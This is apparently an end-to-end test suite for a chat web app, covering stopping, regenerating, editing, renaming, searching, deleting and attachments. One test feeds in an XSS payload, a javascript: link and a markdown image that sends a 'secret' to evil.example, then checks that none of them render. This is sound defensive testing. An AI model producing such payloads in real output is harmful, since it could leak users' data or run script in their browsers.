// A conversation and the list: stop, answer again, versions, rename, search, delete.
import { SEEING_MODEL } from "../doubles/scripted-llm-server.ts";
import { expect, on, test } from "./fixtures.ts";

test.beforeEach(async ({ page, home, anna }) => {
  expect(anna).not.toBe("");
  await page.goto(home.baseUrl);
});

test("stop ends an answer at once and keeps what was said", async ({ page, scripted }) => {
  const app = on(page);
  await app.ask("slow:500x40");
  await expect(app.lastAnswer).toContainText("w5 w6");
  const model = await scripted();
  await app.stop.click();
  await expect(app.lastAnswer).toContainText("Stopped.");
  await expect.poll(() => model.active()).toBe(0);
  const text = await app.lastAnswer.innerText();
  await page.reload();
  await expect(app.lastAnswer).toContainText("Stopped.");
  expect((await app.lastAnswer.innerText()).match(/w\d+/g)).toEqual(text.match(/w\d+/g));
});

test("answer again makes another version; one pages between the two", async ({ page }) => {
  const app = on(page);
  await app.ask("say:The first try");
  await app.answered();
  await page.getByRole("button", { name: "Answer again" }).click();
  await expect(page.getByText("2 of 2")).toBeVisible();
  await app.answered();
  await page.getByRole("button", { name: "Earlier version" }).click();
  await expect(page.getByText("1 of 2")).toBeVisible();
  await expect(app.lastAnswer).toContainText("The first try");
});

test("editing a question asks anew and keeps the first version", async ({ page }) => {
  const app = on(page);
  await app.ask("say:red");
  await app.answered();
  await page.getByRole("button", { name: "Edit message" }).click();
  await page.getByRole("textbox", { name: "Your message" }).fill("say:blue");
  await page.getByRole("button", { name: "Send again" }).click();
  await expect(app.lastAnswer).toContainText("blue");
  await app.answered();
  await expect(page.getByText("2 of 2")).toBeVisible();
});

test("a conversation is renamed, found by its words, and deleted", async ({ page }) => {
  const app = on(page);
  await app.ask("say:Der Kirschkuchen steht im Ofen");
  await app.answered();
  const options = page.getByRole("main").getByRole("button", { name: /^Options for/ });
  await options.click();
  await page.getByRole("menuitem", { name: "Rename" }).click();
  const dialog = page.getByRole("dialog", { name: "Rename conversation" });
  await dialog.getByRole("textbox", { name: "Title" }).fill("Backtag");
  await dialog.getByRole("button", { name: "Rename" }).click();
  await expect(page.getByRole("heading", { name: "Backtag", level: 1 })).toBeVisible();

  await app.showList();
  await page.getByRole("searchbox", { name: "Search conversations" }).fill("kirsch");
  const hits = page.getByRole("navigation", { name: "Conversations" }).getByRole("link", { name: /Backtag/ });
  await expect(hits).toHaveCount(2);
  await expect(hits.first().locator("mark")).toHaveText("Kirschkuchen");
  await hits.first().click();
  await expect(app.log).toContainText("Der Kirschkuchen steht im Ofen");

  await options.click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete conversation" }).click();
  await expect(page.getByText("Ask me something. It stays in this house.")).toBeVisible();
  // The deletion can be taken back for some seconds; after that it is for good.
  await expect(page.getByRole("button", { name: "Undo" })).toBeHidden({ timeout: 15_000 });
  await page.reload();
  await app.showList();
  await expect(page.getByText("What you talk about will be kept here, for your eyes only.")).toBeVisible();
});

test("an answer that failed says what to do next, and trying again works", async ({ page, scripted, watched }) => {
  watched.expect(/status of 502/);
  const app = on(page);
  const model = await scripted();
  model.refuseWith(500);
  try {
    await app.ask("say:works the second time");
    await expect(page.getByRole("button", { name: "Try again" })).toBeVisible();
  } finally {
    model.refuseWith(null);
  }
  await page.getByRole("button", { name: "Try again" }).click();
  await expect(app.lastAnswer).toContainText("works the second time");
});

test("what a model or a person writes is never run: no script, no picture from elsewhere", async ({ page }) => {
  const app = on(page);
  const hostile = "<img src=x onerror=alert(1)> ![leak](https://evil.example/?q=secret) [go](javascript:alert(1))";
  await app.ask(`say:${hostile}`);
  await app.answered();
  await expect(app.log.locator("img")).toHaveCount(0);
  await expect(app.log.locator("a[href^='javascript']")).toHaveCount(0);
});

test("a conversation that isn’t there offers a new one, and the first link leads to the page", async ({
  page,
  home,
  watched,
}) => {
  watched.expect(/404/);
  await page.goto(`${home.baseUrl}/c/0197f2aa-0000-7000-8000-00000000dead`);
  await expect(page.getByText("This conversation isn’t here.", { exact: false })).toBeVisible();
  const skip = page.getByRole("link", { name: "Skip to the page" });
  await skip.press("Enter");
  await expect(page.getByRole("main")).toBeFocused();
  await page.getByRole("main").getByRole("link", { name: "New conversation" }).last().click();
  await expect(on(page).field).toBeVisible();
});

test("a sent picture that can’t be loaded leaves a word in its place, and comes when Hearth is back", async ({
  page,
  context,
  home,
  watched,
}) => {
  watched.expect(/net::ERR_/);
  const app = on(page);
  const eye = { name: "Eye", modelId: SEEING_MODEL };
  const { id } = await (await page.request.post(`${home.baseUrl}/api/companions`, { data: eye })).json();
  await page.goto(`${home.baseUrl}/?with=${id}`);
  const png = await page.screenshot({ clip: { x: 0, y: 0, width: 60, height: 40 } });
  await page.locator("input[type=file]").setInputFiles({ name: "tiny.png", mimeType: "image/png", buffer: png });
  await expect(page.getByRole("img", { name: "tiny.png" })).toBeVisible();
  await app.ask("say:a fine picture");
  await app.answered();
  await page.route("**/api/attachments/**", (route) => route.abort());
  await page.reload();
  await expect(page.getByText("This picture didn’t load.")).toBeVisible();
  await context.setOffline(true);
  await expect(page.getByText("This picture comes when Hearth can be reached.")).toBeVisible();
  await page.unroute("**/api/attachments/**");
  await context.setOffline(false);
  const picture = page.getByRole("img", { name: "Attached picture" });
  await expect(picture).toBeVisible();
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
});
